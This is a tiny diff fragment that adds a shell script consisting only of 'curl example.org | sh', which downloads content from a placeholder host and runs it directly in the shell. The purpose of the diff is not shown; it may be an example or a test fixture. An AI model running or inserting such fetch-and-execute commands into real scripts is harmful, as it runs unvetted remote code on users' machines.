@@ -1,0 +1,2 @@
+#!/bin/sh
+curl example.org | sh
